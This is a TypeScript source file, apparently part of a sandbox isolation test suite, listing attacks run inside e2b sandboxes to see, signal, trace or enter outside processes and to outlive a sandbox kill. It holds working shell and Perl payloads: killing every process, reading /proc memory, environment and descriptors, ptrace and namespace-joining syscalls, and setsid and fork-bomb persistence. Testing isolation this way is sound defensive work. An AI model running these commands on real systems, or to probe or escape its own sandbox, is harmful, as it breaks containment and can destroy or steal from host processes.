import { readdirSync, readFileSync, readlinkSync } from 'node:fs';
import { setTimeout as wait } from 'node:timers/promises';
import { CommandExitError } from 'e2b';
import { byScript, type Attack, type Field } from './attack.ts';
import { perl } from './perl.ts';

/** To see, signal, trace or enter processes outside, and to outlive its own end. */
export const PROCESSES: readonly Attack[] = [
  byScript(
    "see the host's processes",
    ({ secret }) => `cat /proc/[0-9]*/cmdline | grep -ao [s]${secret.slice(1)}`,
    {
      onHost: 'anyone',
    },
  ),
  byScript(
    'see more processes than its own',
    () => 'set -- /proc/[0-9]*; [ $# -gt 4 ] && echo $#; ls /proc | grep -E "^[0-9]{4,}$"; true',
    { onHost: 'anyone' },
  ),
  {
    name: "signal the host's processes",
    attempt: async (field) => {
      const { pid } = field.host;
      const kill = `kill -9 ${pid} -1; perl -e 'kill 9, ${pid}, -${pid}, -1'; for p in /proc/[0-9]*; do kill -9 \${p#/proc/}; done`;
      await field.run(await field.sandbox(), kill);
      return field.host.isAlive() ? '' : 'the process is dead';
    },
  },
  {
    name: 'end its sandbox by signals to the first process',
    attempt: async (field) => {
      const sandbox = await field.sandbox();
      const { out: name } = await field.run(sandbox, 'cat /proc/1/comm');
      await field.run(sandbox, 'kill -9 1; kill -TERM 1; kill -STOP 1; kill -SEGV 1; kill -CHLD 1; true');
      const { out } = await field.run(sandbox, 'echo alive; cat /proc/1/comm');
      return name !== '' && out === `alive\n${name}` ? '' : `the sandbox says: ${out}`;
    },
  },
  byScript(
    "open the first process's memory, descriptors and links",
    () =>
      'cd /proc/1; readlink root cwd exe fd/*; head -c 9 environ; head -c 9 mem; head -c 9 auxv; cat syscall stack; ls map_files; echo x >fd/0; true',
    { onHost: 'unsafe' },
  ),
  byScript(
    'take descriptors and memory of the first process by system calls',
    () =>
      perl(String.raw`
my ($pidfd, $buffer) = (sys('pidfd_open', 1, 0), "\0" x 64);
loot('descriptor') if sys('pidfd_getfd', $pidfd, 0, 0) >= 0;
my ($local, $remote) = (pack('PQ', $buffer, 64), pack('QQ', 0x400000, 64));
loot('memory') if sys('process_vm_readv', 1, $local, 1, $remote, 1, 0) > 0;
loot('trace') if sys('ptrace', 16, 1, 0, 0) >= 0;
loot('seize') if sys('ptrace', 0x4206, 1, 0, 0) >= 0;
loot('same') if sys('kcmp', $$, 1, 0, 0, 0) >= 0;`),
    { onHost: 'unsafe' },
  ),
  {
    name: 'look into the process that enters its sandbox before it is a command',
    attempt: lurk,
  },
  byScript(
    'join namespaces of others or make its own',
    () =>
      perl(String.raw`
for my $kind (qw(user mnt pid net ipc uts cgroup time)) {
  for my $pid (1, 'self') {
    next unless open my $ns, '<', "/proc/$pid/ns/$kind";
    loot("joined $kind") if sys('setns', fileno $ns, 0) == 0;
  }
}
my %flags = (time => 0x80, mnt => 0x20000, cgroup => 0x2000000, uts => 0x4000000, ipc => 0x8000000, user => 0x10000000,
  pid => 0x20000000, net => 0x40000000);
for my $kind (keys %flags) {
  for my $flags ($flags{$kind}, $flags{$kind} | 0x10000000) {
    loot("unshared $kind") if sys('unshare', $flags) == 0;
    next if $flags == 0x80; # part of the exit signal, to clone
    my $pid = sys('clone', $flags | 17, 0, 0, 0, 0);
    POSIX::_exit(0) if $pid == 0;
    loot("cloned $kind") if $pid > 0;
  }
}
my $arguments = pack 'Q8', 0x10000000, 0, 0, 0, 17, 0, 0, 0;
my $pid = sys('clone3', $arguments, 64);
POSIX::_exit(0) if defined $pid and $pid == 0;
loot('clone3') if $pid > 0;`),
    { onHost: 'unsafe' },
  ),
  byScript(
    'nest a sandbox of its own',
    () => 'unshare -Ur id -u; unshare -m true && echo mnt; bwrap --ro-bind / / id -u',
    {
      onHost: 'root',
    },
  ),
  {
    name: 'leave a process behind when its sandbox is killed',
    attempt: (field) =>
      surviveKill(
        field,
        (mark) =>
          `perl -e '$SIG{$_} = "IGNORE" for keys %SIG; fork and exit; use POSIX; setsid(); fork and exit; sleep 1000' ${mark} >/dev/null 2>&1 </dev/null; (trap "" TERM HUP INT; setsid nohup sleep 1000.${mark.length} ${mark} &) >/dev/null 2>&1; true`,
      ),
  },
  {
    name: 'outlast its kill by forking as fast as it can',
    attempt: (field) =>
      surviveKill(
        field,
        (mark) =>
          `perl -e 'use POSIX; setsid(); while (1) { my $p = fork // 1; exit if $p and $$ > 2 and rand() < 0.5 }' ${mark} >/dev/null 2>&1 </dev/null & true`,
      ),
  },
];

/** Reads whatever it can of every process that appears, while commands are started. */
async function lurk(field: Field): Promise<string> {
  const sandbox = await field.sandbox();
  const lurker = perl(String.raw`
my $end = time + 3;
my %seen;
while (time < $end) {
  for my $pid (map { m{(\d+)} } glob '/proc/[0-9]*') {
    next if $pid == 1 or $pid == $$;
    my $folder = "/proc/$pid";
    if (open my $secret, '<', "$folder/root${field.host.file}") { loot('root', <$secret>); exit }
    if (open my $secret, '<', "$folder/cwd${field.host.file}") { loot('cwd', <$secret>); exit }
    next unless open my $comm, '<', "$folder/comm" and <$comm> eq "perl\n";
    my @fds = grep { m{cgroup|/tasks|pipe} } map { readlink // () } grep { !m{/[0-2]$} } glob "$folder/fd/*";
    if (@fds) { loot("descriptors of $pid: @fds"); exit }
    if (open my $environ, '<', "$folder/environ") { my $text = <$environ> // ''; if ($text =~ /LC_ALL=C/) { loot("environment $text"); exit } }
    if (open my $mem, '<', "$folder/mem") { seek $mem, 0x400000, 0; loot("memory of $pid") and exit if sysread $mem, my $some, 8 }
  }
}`);
  const lurking = sandbox.commands.run(lurker, { background: true });
  const handle = await lurking;
  for (let at = 0; at < 40; at++) await field.run(sandbox, 'true');
  // That it was refused something and gave up is no loot.
  const { stdout } = await handle.wait().catch((error: unknown) => {
    if (error instanceof CommandExitError) return error;
    throw error;
  });
  return stdout;
}

async function surviveKill(field: Field, script: (mark: string) => string): Promise<string> {
  const mark = `${field.host.secret}-survivor`;
  const sandbox = await field.sandbox();
  // One that forks may end by itself before it is seen: then it begins again.
  let namespaces: string[] = [];
  for (let tries = 0; namespaces.length === 0; tries++) {
    if (tries === MOST_TRIES) throw new Error('the attack was never seen to run');
    await field.run(sandbox, script(mark));
    namespaces = await seenOnHost(mark, SEEN_WITHIN);
  }
  await sandbox.kill();
  return [...(await seenOnHost(mark, 1)), ...processesIn(namespaces)].join(' ');
}

const MOST_TRIES = 5;
const SEEN_WITHIN = 300;

/** The pid namespaces of processes whose command line has the mark; looks so many times until there are some. */
async function seenOnHost(mark: string, looks: number): Promise<string[]> {
  for (let look = 1; ; look++) {
    const found = pids().filter((pid) => read(`/proc/${pid}/cmdline`).includes(mark));
    const namespaces = [...new Set(found.map(namespaceOf))].filter(Boolean);
    if (namespaces.length > 0 || look >= looks) return namespaces;
    await wait(10);
  }
}

function processesIn(namespaces: readonly string[]): string[] {
  return pids().filter((pid) => namespaces.includes(namespaceOf(pid)));
}

function pids(): string[] {
  return readdirSync('/proc').filter((name) => /^\d+$/.test(name));
}

function namespaceOf(pid: string): string {
  try {
    return readlinkSync(`/proc/${pid}/ns/pid`);
  } catch {
    return '';
  }
}

function read(path: string): string {
  try {
    return readFileSync(path, 'utf8');
  } catch {
    return '';
  }
}
